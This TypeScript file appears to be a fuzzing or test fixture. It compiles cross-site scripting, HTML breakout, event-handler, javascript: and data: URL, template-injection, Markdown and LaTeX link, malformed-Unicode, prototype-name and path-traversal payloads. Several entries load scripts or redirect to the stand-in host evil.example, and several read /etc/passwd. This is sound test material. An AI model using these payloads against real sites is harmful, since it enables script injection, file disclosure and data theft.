// Attack strings for any value that a page shows. A successful attack calls `hit()` in the page, or sends a request to the host
// `evil.example`.

const call = "hit()";
const evil = "https://evil.example";

/** Scripts in forms that some filters miss. */
const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type="module">${call}</script>`,
  `<script type="text/javascript">${call}//</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>/*</script>*/${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href="${evil}/x.js"/></svg>`,
  `<math><script>${call}</script></math>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
  `<style><script>${call}</script></style>`,
  `<xmp><p title="</xmp><script>${call}</script>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="${evil}/x.swf"></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src="${evil}/x.swf">`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel="stylesheet" href="${evil}/x.css">`,
  `<link rel="preload" as="image" href="${evil}/x.png">`,
  `<style>@import "${evil}/x.css";</style>`,
  `<style>body{background:url(${evil}/x.png)}</style>`,
  `<form action="${evil}/"><input autofocus onfocus=${call}></form>`,
  `<isindex action=javascript:${call} type=submit>`,
];

/** Texts that end the attribute, comment or element around a payload. */
const breakouts = [
  "",
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</a>",
  "</pre></code>",
  "</svg>",
  "*/",
  "\\",
  '\\"',
  "&quot;&gt;",
  "%22%3E",
  "\u2028",
  "\0",
];

/** Attacks after the end of an attribute, comment or element. */
const broken = breakouts.flatMap((end) => [
  `${end}<img src=x onerror=${call}>`,
  `${end} onmouseover=${call} autofocus onfocus=${call} x=`,
  `${end}<svg onload=${call}>`,
]);

/** Elements whose event handlers run without interaction. */
const handlers = [
  ["img src=x", "onerror"],
  ["img src=x:x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a tabindex=0 autofocus", "onfocus"],
  ["div contenteditable autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["script src=x", "onerror"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["iframe", "onload"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onbegin"],
  ["p style=animation:fade-in-down 1s", "onanimationstart"],
  ["dialog open", "onbeforetoggle"],
].flatMap(([element, handler]) => [
  `<${element} ${handler}=${call}>`,
  `<${element}/${handler}="${call}"/>`,
  `"><${element} ${(handler ?? "").toUpperCase()} = '${call}'>`,
]);

/** URLs that are script or data. */
const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\tjavascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `&#106;avascript:${call}`,
  `javascript://example.org/%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `data:text/javascript,${call}`,
  "//evil.example/x",
  "\\\\evil.example\\x",
  "https:evil.example",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
];

/** Syntax of template languages, Markdown and LaTeX. */
const syntax = [
  "{{ 7 * 7 }}",
  "{{ constructor.constructor('hit()')() }}",
  '{{ range.constructor("return globalThis.process")() }}',
  "{% include '../../package.json' %}",
  "{% raw %}{{ x }}",
  "{% endraw %}",
  "{% if true %}",
  "{# comment",
  "{{",
  "{%",
  "{{ site | dump | safe }}",
  "{%- assign x = site -%}{{ x }}",
  `[click](javascript:${call})`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}\n[x]`,
  `\`\`\`\n<script>${call}</script>`,
  `$\\href{javascript:${call}}{x}$`,
  `$\\includegraphics{${evil}/x.png}$`,
  `\\url{javascript:${call}}`,
  `\\href{javascript:${call}}{x}`,
  `$\{process.exit(1)}`,
  "<%= process.exit(1) %>",
];

/** Malformed text, which may break parsers. */
const malformed = [
  "\ud800",
  "\udfff x",
  "\uFEFFx",
  "\u202Egnp.exe",
  "a\u0000b",
  "\u0007\u001b[31mred",
  "<!--",
  "<!-- --!>",
  "<![CDATA[",
  "<?php",
  "<p",
  "<a href='",
  "</",
  "&",
  "&#x3C;script&#x3E;hit()&#x3C;/script&#x3E;",
  "&lt;script&gt;hit()&lt;/script&gt;",
  "\u{1F469}\u200D\u{1F52C}".repeat(50),
  "\u0301".repeat(500),
  "-".repeat(2000),
  "(".repeat(2000),
  "{".repeat(500),
  "[".repeat(500),
  "x ".repeat(2000),
];

/** Names with a meaning in JavaScript. */
const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "true",
];

/** Paths that lead out of the site. */
export const traversals = [
  "../secret.txt",
  "../../etc/passwd",
  "/../secret.txt",
  "a/../../secret.txt",
  "..\\secret.txt",
  "assets/..\\..\\secret.txt",
  "%2e%2e/secret.txt",
  "..%2fsecret.txt",
  "C:\\secret.txt",
  "file:///etc/passwd",
  "\\\\host\\share",
  "a\0.jpg",
];

/** All payloads. */
export const payloads: readonly string[] = [
  ...new Set([...scripts, ...broken, ...handlers, ...urls, ...syntax, ...malformed, ...names, ...traversals]),
];
